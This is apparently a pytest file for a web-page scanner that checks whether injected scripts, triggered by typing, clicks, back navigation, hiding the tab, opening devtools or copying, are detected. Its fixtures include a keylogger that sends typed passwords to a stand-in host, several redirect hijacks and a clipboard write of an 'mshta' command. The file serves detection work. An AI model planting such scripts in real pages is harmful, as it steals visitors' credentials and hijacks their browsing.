"""What pages do once somebody types, clicks where nothing is or on a link, goes back."""

from __future__ import annotations

import pytest

from scanner.fetch.browser.provoked import FIELDS, provoked
from scanner.model import Visitor
from tests.conftest import answering

pytestmark = [pytest.mark.browser, pytest.mark.long]
URL = "https://www.example.gov.cn/"
AWAY = "https://lucky.test/"
DONE = {
    "typed": (
        "<input name=u><input type=password name=p><script>document.querySelectorAll('input').forEach(i=>"
        f"i.addEventListener('input',()=>{{new Image().src='{AWAY}?'+btoa(i.name+i.value)}}))</script>",
        {"typed"},
    ),
    "window": (f"<p>x</p><script>document.addEventListener('click',()=>open('{AWAY}'))</script>", {"click-window"}),
    "move": (f"<p>x</p><script>document.body.onmousedown=()=>{{location='{AWAY}'}}</script>", {"click-move"}),
    "back": (
        "<p>x</p><script>history.pushState(1,'','#a');addEventListener('popstate',()=>{"
        f"location.replace('{AWAY}')}})</script>",
        {"back-move"},
    ),
    "link": (
        "<a href='/xw/1.html'>x</a><script>document.addEventListener('click',e=>{if(e.target.closest('a')){"
        f"e.preventDefault();location='{AWAY}'}}}},true)</script>",
        {"click-move"},
    ),
    "link led elsewhere": (
        "<a href='/xw/1.html'>x</a><script>document.querySelector('a').onmousedown=e=>{"
        f"e.target.href='{AWAY}'}}</script>",
        {"click-move"},
    ),
    "looked away": (
        "<p>x</p><script>document.addEventListener('visibilitychange',()=>{if(document.hidden)"
        f"location='{AWAY}'}})</script>",
        {"visibilitychange-move"},
    ),
    "copied from": (f"<p>x</p><script>document.oncopy=()=>{{open('{AWAY}')}}</script>", {"copy-window"}),
    "looked into": (
        "<p>x</p><script>setInterval(()=>{if(outerHeight-innerHeight>150&&innerWidth<outerWidth-150)"
        f"location='{AWAY}'}},500)</script>",
        {"tools-move"},
    ),
    "pointed at": (
        "<h1 style=margin-top:300px>x</h1><script>document.querySelector('h1').onmouseenter=()=>{"
        f"location='{AWAY}'}}</script>",
        {"over-move"},
    ),
    "stayed": (f"<p>x</p><script>setTimeout(()=>{{location='{AWAY}'}},70000)</script>", {"later-move"}),
    "said late": (
        "<p>x</p><script>setTimeout(()=>{document.body.innerHTML='<p>首存送彩金 lucky.test</p>'},70000)</script>",
        {"later-words"},
    ),
    "typed and moved": (
        f"<input name=q><script>document.querySelector('input').oninput=()=>{{location='{AWAY}'}}</script>",
        {"type-move"},
    ),
    "copied": ("<p>x</p><script>document.onclick=()=>navigator.clipboard.writeText('mshta x')</script>", {"clipboard"}),
}
QUIET = (
    "<form><input name=q><input type=password></form><a href='https://other.test/'>x</a><p>x</p><script>"
    "document.onclick=()=>{menu=0};document.oncopy=()=>{n=1};onresize=()=>{n=2};onblur=()=>{document.title='x'};document.querySelector('[name=q]').oninput=e=>fetch('/suggest?q='+e.target.value)</script>"
)


def touched(run, browser, html):
    async def touch():
        async with browser.visit(URL, Visitor.DESKTOP, replay=answering({URL: html})) as visit:
            return await provoked(visit)

    return run(touch())


@pytest.mark.parametrize("name", DONE)
def test_what_a_touch_brings_about_is_taken_down(run, browser, name):
    html, kinds = DONE[name]
    deeds = touched(run, browser, html).deeds
    assert kinds <= {deed.kind for deed in deeds}
    assert all("lucky.test" in deed.text for deed in deeds if deed.kind != "clipboard")


def test_an_ordinary_page_does_nothing(run, browser):
    assert [deed for deed in touched(run, browser, QUIET).deeds if "example.gov.cn" not in deed.text] == []


def test_a_link_of_an_ordinary_page_is_not_followed(run, browser):
    async def touch():
        asked = []
        answers = answering({URL: "<a href='/xw/1.html'>x</a><p>x</p>"})

        async def answer(url):
            asked.append(url)
            return await answers(url)

        async with browser.visit(URL, Visitor.DESKTOP, replay=answer) as visit:
            return (await provoked(visit)).deeds, asked

    deeds, asked = run(touch())
    assert deeds == ()
    assert [url for url in asked if "/xw/" in url] == []


def test_what_was_not_typed_into_is_told(run, browser):
    assert touched(run, browser, "<form>" + "<input>" * FIELDS + "</form>").left == ""
    assert touched(run, browser, "<form>" + "<input>" * (FIELDS + 2) + "</form>").left.startswith("2 fields")
